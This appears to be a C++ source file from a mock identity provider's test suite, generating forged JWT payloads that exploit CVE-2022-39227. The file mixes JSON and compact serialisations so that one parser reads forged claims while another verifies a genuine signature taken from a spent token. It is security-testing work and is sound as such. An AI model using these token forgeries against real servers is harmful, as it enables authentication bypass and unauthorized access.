#include <fmt/core.h>

#include "common/base/text.h"
#include "mock-idp/jose/mutation_family.h"

namespace jose {
namespace {

/// One text that is JSON for one reader and compact for another: a reader that splits it at its
/// dots finds the forged claims, a reader that parses the JSON finds a genuine signature over other
/// ones (CVE-2022-39227).
struct Mixed {
  const char* name;
  const char* summary;
  /// What comes before the compact header: it completes a group of four characters, of which a
  /// lenient base64 decoder ignores all.
  const char* before;
  const char* after;  ///< after the forged payload
  bool general;       ///< the signature is in `signatures`
};
constexpr Mixed kMixed[] = {
    {"mixed-json-flattened", "forged claims in a member name of a genuine flattened JWS", "~~", ".",
     false},
    {"mixed-json-general", "forged claims in a member name of a genuine general JWS", "~~", ".",
     true},
    {"mixed-json-flattened-spaces",
     "forged claims after two spaces in a member name of a genuine flattened JWS", "  ", ".",
     false},
    {"mixed-json-general-spaces",
     "forged claims after two spaces in a member name of a genuine general JWS", "  ", ".", true},
    {"mixed-json-extra-dots",
     "forged claims in a member name with more dots of a genuine flattened JWS", "~~", "..", false},
};

/// A token of the same issuer that is of no use any more: it expired an hour ago, and it is for
/// another server. So a server that reads its claims rejects it.
base::Result<Parts> spent(Recipe genuine) {
  genuine.expiring_in(std::chrono::hours(-1));
  if (genuine.claims.find("aud") != nullptr) {
    genuine.claims.set_string("aud", "https://other.example/mcp");
  }
  const auto token = genuine.mint();
  if (!token) return tl::unexpected(token.error());
  const auto segments = base::split(*token, '.');
  if (segments.size() != 3) return base::fail("the token has not the compact form");
  return Parts{segments[0], segments[1], segments[2]};
}

std::string signature_of(const Parts& genuine, bool general) {
  const std::string text =
      fmt::format(R"("protected":"{}","signature":"{}")", genuine.header, genuine.signature);
  return general ? R"("signatures":[{)" + text + "}]" : text;
}

std::string mix(const Mixed& row, const Parts& forged, const Parts& genuine) {
  return fmt::format(R"({{"{}{}.{}{}":"",{},"payload":"{}"}})", row.before, forged.header,
                     forged.payload, row.after, signature_of(genuine, row.general),
                     genuine.payload);
}

}  // namespace

Family mixed_mutations() {
  Family family;
  for (const Mixed& row : kMixed) {
    family.push_back(
        {row.name, row.summary, [&row](Recipe& recipe, const Surroundings&) -> base::Result<void> {
           const auto genuine = spent(recipe);
           if (!genuine) return tl::unexpected(genuine.error());
           recipe.assemble = [&row, genuine = *genuine](const Parts& forged) {
             return mix(row, forged, genuine);
           };
           return {};
         }});
  }
  return family;
}

}  // namespace jose
